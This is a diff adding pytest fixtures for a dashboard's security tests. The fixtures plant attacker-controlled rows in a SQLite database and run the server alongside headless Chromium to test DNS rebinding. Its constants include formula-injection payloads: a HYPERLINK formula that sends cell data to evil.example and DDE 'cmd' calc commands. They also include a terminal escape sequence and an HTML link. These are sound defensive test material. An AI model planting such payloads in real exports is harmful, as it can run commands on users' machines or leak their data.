@@ -1,0 +1,220 @@
+"""Fixtures for the security suite: a database holding what an attacker can plant (formula cells
+in names and services, escape codes, HTML in a step status), the real ``pipepulse dashboard
+serve`` in a subprocess (one per mode, shared by a module), and headless Chromium that resolves
+``attacker.example`` and ``dash.example.com`` to 127.0.0.1 (a DNS rebinding and a proxy's name,
+without a DNS server).
+
+The dashboard tests here run on SQLite only: the trust boundary does not depend on the database
+(the audit log's storage is tested on both in ``tests/store/test_audit.py``).
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[2]
+sys.path.insert(0, str(ROOT / "tests" / "dashboard"))
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+
+DEMO_CONFIG = ROOT / "examples" / "demo.toml"
+CHROMIUM = "/usr/bin/chromium"
+CHROMIUM_ARGS = [
+    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
+    "--disable-component-update", "--disable-sync",
+    # a rebinding attacker's name and a proxy's public name, both answering with 127.0.0.1
+    "--host-resolver-rules=MAP attacker.example 127.0.0.1, MAP dash.example.com 127.0.0.1",
+]
+
+# what an attacker plants through a pipeline name, an error, a tag or a cost export
+FORMULA_PIPELINE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+FORMULA_ERROR = "+cmd|' /C calc'!A0"
+FORMULA_SERVICE = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_USAGE = "-2+3"
+ESCAPE_REGION = "\x1b]0;pwned\x07\x1b[31mus-evil-1\x1b[0m"
+HTML_STATUS = '<a href="http://evil.example/">FAILED</a>'
+# a planted row's run id (it also carries the HTML status in a stage)
+PLANTED_RUN = "reference:planted-1"
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def _plant(engine, end: datetime) -> None:
+    """Rows whose text an attacker controls."""
+    from store.schema import cost_daily, pipelines, run_steps, runs
+    from store.writes import upsert
+
+    started = end - timedelta(hours=3)
+    with engine.begin() as conn:
+        upsert(conn, pipelines, [{"name": FORMULA_PIPELINE, "source": "reference"}], now=end)
+        upsert(conn, runs, [{
+            "run_id": PLANTED_RUN, "pipeline": FORMULA_PIPELINE, "source": "reference", "status": "FAILED",
+            "trigger": "schedule", "attempt": 1, "started_at": started, "ended_at": started + timedelta(minutes=2),
+            "duration_seconds": 120.0, "records_in": 10, "records_out": 0, "records_rejected": 0, "retries": 0,
+            "error_type": "Injected", "error_message": FORMULA_ERROR, "correlation_id": "c-planted", "cost_usd": 0.5,
+        }], now=end)
+        upsert(conn, run_steps, [{
+            "run_id": PLANTED_RUN, "stage": "ingest", "attempt": 1, "status": HTML_STATUS, "queued_at": started,
+            "started_at": started, "ended_at": started + timedelta(minutes=2), "duration_seconds": 120.0,
+        }], now=end)
+        upsert(conn, cost_daily, [{
+            "source": "focus", "day": end.date() - timedelta(days=1), "provider": "AWS", "account": "123456789012",
+            "service": FORMULA_SERVICE, "region": ESCAPE_REGION, "usage_type": FORMULA_USAGE, "pipeline": "",
+            "billed_cost": -12.5, "effective_cost": -12.5, "usage_quantity": 1.0,
+        }], now=end)
+
+
+@pytest.fixture(scope="session")
+def sec_template(tmp_path_factory) -> tuple[Path, object]:
+    """A SQLite file with the dashboard tests' dataset plus the planted rows; ``(path, Dataset)``."""
+    import dash_dataset
+
+    from store.db import connect, upgrade
+
+    path = tmp_path_factory.mktemp("sec-template") / "sec.db"
+    engine = connect(f"sqlite:///{path}")
+    upgrade(engine)
+    end = datetime.now(UTC)
+    ds = dash_dataset.build(engine, end=end)
+    _plant(engine, end)
+    engine.dispose()
+    return path, ds
+
+
+@pytest.fixture(scope="module")
+def sec_db(sec_template, tmp_path_factory) -> tuple[str, object]:
+    """``(url, Dataset)``: a module's own copy of the template (for a module that writes)."""
+    path, ds = sec_template
+    copy = tmp_path_factory.mktemp("sec-db") / "sec.db"
+    shutil.copy(path, copy)
+    return f"sqlite:///{copy}", ds
+
+
+class Server:
+    """``pipepulse dashboard serve`` as a subprocess, up once /_stcore/health answers."""
+
+    def __init__(self, db_url: str, *, cwd: Path, args: tuple[str, ...] = (), secrets: Path | None = None,
+                 config: Path = DEMO_CONFIG, address: str = "127.0.0.1"):
+        self.port = free_port()
+        self.base = f"http://127.0.0.1:{self.port}"
+        self.db_url = db_url
+        cmd = [sys.executable, "-m", "cli", "--config", str(config), "dashboard", "serve",
+               "--address", address, "--port", str(self.port), *args]
+        if secrets:
+            cmd += ["--secrets", str(secrets)]
+        env = {**os.environ, "PIPEPULSE_DATABASE_URL": db_url, "PIPEPULSE_LOG_FORMAT": "text", "HOME": str(cwd)}
+        self.log = cwd / f"server-{self.port}.log"
+        # a session of its own, so stop() can end the served child with it
+        self.proc = subprocess.Popen(cmd, cwd=cwd, env=env, stdout=self.log.open("w"), stderr=subprocess.STDOUT,
+                                     start_new_session=True)
+        deadline = time.monotonic() + 90
+        while time.monotonic() < deadline:
+            if self.proc.poll() is not None:
+                raise AssertionError(f"dashboard exited with {self.proc.returncode}: {self.log.read_text()}")
+            try:
+                with urllib.request.urlopen(self.base + "/_stcore/health", timeout=2) as r:
+                    if r.status == 200:
+                        return
+            except OSError:
+                time.sleep(0.25)
+        raise AssertionError(f"dashboard did not answer in 90 s: {self.log.read_text()}")
+
+    def stop(self) -> None:
+        t0 = time.monotonic()
+        self.proc.send_signal(signal.SIGTERM)
+        try:
+            self.proc.wait(timeout=5)
+        except subprocess.TimeoutExpired:
+            pass
+        # uvicorn waits for open websockets to close; the tests are done with them
+        try:
+            os.killpg(self.proc.pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+        self.proc.wait()
+        self.stop_seconds = time.monotonic() - t0
+
+
+def http(url: str, *, headers: dict[str, str] | None = None, method: str = "GET") -> tuple[int, dict[str, str], bytes]:
+    """``(status, headers, body)`` of a plain HTTP request (any Host header), errors included."""
+    import http.client
+    from urllib.parse import urlsplit
+
+    parts = urlsplit(url)
+    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
+    path = parts.path or "/"
+    if parts.query:
+        path += "?" + parts.query
+    conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
+    given = {k.lower(): v for k, v in (headers or {}).items()}
+    conn.putheader("Host", given.pop("host", parts.netloc))
+    for k, v in given.items():
+        conn.putheader(k, v)
+    conn.endheaders()
+    resp = conn.getresponse()
+    body = resp.read()
+    conn.close()
+    return resp.status, {k.lower(): v for k, v in resp.getheaders()}, body
+
+
+@pytest.fixture(scope="session")
+def local(sec_template, tmp_path_factory):
+    """The dashboard as ``make demo`` and the README serve it (127.0.0.1, no login), over a copy of
+    the template, shared by the modules that only read (a server start is most of their time)."""
+    path, ds = sec_template
+    work = tmp_path_factory.mktemp("local")
+    shutil.copy(path, work / "sec.db")
+    server = Server(f"sqlite:///{work / 'sec.db'}", cwd=work)
+    server.ds = ds
+    yield server
+    server.stop()
+
+
+def require_browser() -> None:
+    if not Path(CHROMIUM).exists():
+        if os.environ.get("PIPEPULSE_REQUIRE_BROWSER") == "1":
+            pytest.fail(f"{CHROMIUM} is missing and PIPEPULSE_REQUIRE_BROWSER=1: install Debian's chromium", pytrace=False)
+        pytest.skip(f"{CHROMIUM} is missing (install Debian's chromium to run the browser tests)")
+
+
+@pytest.fixture(scope="session")
+def browser():
+    require_browser()
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        yield b
+        b.close()
+
+
+@pytest.fixture
+def page(browser):
+    ctx = browser.new_context(viewport={"width": 1400, "height": 1600}, accept_downloads=True)
+    pg = ctx.new_page()
+    dialogs: list[str] = []
+    pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    pg.dialogs = dialogs
+    yield pg
+    ctx.close()
+
+
+def settle(pg, *, text: str | None = None, timeout: float = 45_000) -> None:
+    """Wait until the script has run (and ``text`` shows)."""
+    pg.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]', timeout=timeout)
+    if text:
+        pg.get_by_text(text).filter(visible=True).first.wait_for(timeout=timeout)
